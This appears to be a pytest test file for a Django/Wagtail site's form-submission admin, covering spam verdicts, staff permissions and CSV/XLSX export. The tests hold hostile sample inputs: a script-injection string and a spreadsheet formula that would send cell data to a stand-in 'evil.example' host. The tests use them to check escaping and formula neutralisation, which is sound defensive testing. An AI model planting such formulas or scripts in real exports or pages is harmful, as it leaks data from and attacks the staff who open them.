import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from home.models import SentForm
from operations.neutral import neutral
from tests.comments.factories import make_user
from tests.comments.moderation_queue.staff import sign_in
from tests.home.forms.filling import HONEST, make_form
from tests.home.staff import ADMINISTRATORS, EDITORS, GROUPS, window_of


@pytest.fixture
def window(page):
    return sign_in(make_user(is_superuser=True))


def keep(page, verdict="fine", **answers):
    data = HONEST | answers
    sign = [{"sign": "honeypot", "detail": ""}] if verdict == "spam" else []
    key = f"{verdict}{SentForm.objects.count()}"
    return SentForm.objects.create(
        page=page, form_data=data, verdict=verdict, key=key, evidence=sign
    )


def listed(window, page, **asked):
    response = window.get(reverse("wagtailforms:list_submissions", args=[page.pk]), asked)
    assert response.status_code == 200
    return response.content.decode()


def test_what_was_sent_is_listed_with_its_verdict_and_why(window, page):
    keep(page, "spam")
    told = listed(window, page)
    assert HONEST["message"] in told
    assert "a field that people do not see was filled in" in told


def test_it_can_be_listed_by_verdict(window, page):
    keep(page, message="An honest word")
    keep(page, "spam", message="A dishonest word")
    told = listed(window, page, verdict="spam")
    assert ("A dishonest word" in told, "An honest word" in told) == (True, False)


def test_what_readers_wrote_is_never_markup(window, page):
    keep(page, message="<script>alert(1)</script>")
    assert "<script>alert(1)" not in listed(window, page)


def test_somebody_of_the_staff_has_the_last_word(window, page):
    sent = keep(page, "spam")
    address = reverse("sent_form_decide", args=[page.pk, sent.pk])
    assert window.post(address, {"verdict": "fine"}).status_code == 302
    window.post(address, {"verdict": "lovely"})
    sent.refresh_from_db()
    assert sent.verdict == "fine"


def test_others_decide_nothing(client, page):
    sent = keep(page, "spam")
    address = reverse("sent_form_decide", args=[page.pk, sent.pk])
    assert client.post(address, {"verdict": "fine"}).status_code == 302
    stranger = sign_in(make_user("stranger"))
    stranger.post(address, {"verdict": "fine"})
    sent.refresh_from_db()
    assert sent.verdict == "spam"


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_nothing_that_is_exported_is_a_formula(newsroom, export):
    """Abuse case 27: what a stranger typed is opened on a computer of the staff."""
    window = sign_in(make_user(is_superuser=True))
    page = make_form(newsroom, asked=[("=A1", "singleline"), ("Boxes", "checkboxes")])
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    SentForm.objects.create(
        page=page, form_data={"a1": formula, "boxes": ["@SUM(1)", "b"]}, key="x"
    )
    address = reverse("wagtailforms:list_submissions", args=[page.pk])
    response = window.get(address, {"export": export})
    table = b"".join(response.streaming_content) if response.streaming else response.content
    if export == "csv":
        rows = list(csv.reader(io.StringIO(table.decode())))
    else:
        sheet = load_workbook(io.BytesIO(table)).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        rows = list(sheet.iter_rows(values_only=True))
    assert [row[1] for row in rows] == ["'=A1", f"'{neutral(formula)[1:]}"]
    assert rows[1][2].startswith("'@SUM")


def test_all_of_it_can_be_exported(window, page):
    keep(page)
    address = reverse("wagtailforms:list_submissions", args=[page.pk])
    response = window.get(address, {"export": "csv"})
    assert HONEST["message"] in b"".join(response.streaming_content).decode()


@pytest.mark.parametrize("group", GROUPS)
def test_who_publishes_reads_what_was_sent_and_nobody_else(page, group):
    sent = keep(page, "spam")
    window = window_of(group)
    address = reverse("wagtailforms:list_submissions", args=[page.pk])
    window.post(reverse("sent_form_decide", args=[page.pk, sent.pk]), {"verdict": "fine"})
    sent.refresh_from_db()
    may = group in (EDITORS, ADMINISTRATORS)
    assert (window.get(address).status_code == 200) == may
    assert (sent.verdict == "fine") == may
